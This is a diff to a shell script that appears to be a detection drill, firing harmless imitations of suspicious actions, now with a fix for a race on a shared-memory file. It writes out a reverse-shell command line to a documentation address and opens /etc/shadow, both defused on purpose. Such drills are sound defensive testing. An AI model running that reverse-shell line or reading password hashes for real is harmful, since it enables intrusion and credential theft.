@@ -17,7 +17,7 @@ fi
 # cron reads no file with a dot in its name, and there is nothing in it.
 job=/etc/cron.d/edge.$marker
 memory=/dev/shm/$marker.sh
-trap 'rm -f "$job" "$memory"' EXIT
+trap 'rm -f "$job"' EXIT
 program=$(command -v true)
 [[ $program == /* ]] || program=/usr/bin/true
 
@@ -30,7 +30,12 @@ deed() {
   sleep "${DRILL_PAUSE:-1}"
 }
 
-echo : >"$memory"
+# Only as a new file: anybody may write into that folder, and root runs what is in it.
+if ! (set -o noclobber && echo : >"$memory") 2>/dev/null; then
+  echo "drill: $memory is there already; take another marker" >&2
+  exit 1
+fi
+trap 'rm -f "$job" "$memory"' EXIT
 deed c584e9dc-0ddc-41a6-8380-554add74c11d 'a shell opens the password hashes, and reads none' /bin/sh -c ": </etc/shadow # $marker"
 deed d61c80c9-8c74-43da-a46d-dfafa558ce71 'a script of no commands runs from shared memory' /bin/sh "$memory"
 deed 8c1463d2-dd4a-4532-9410-7631363ead95 'the command line of a reverse shell, as words for true' "$program" "sh -i >& /dev/tcp/192.0.2.1/4444 0>&1 # $marker"
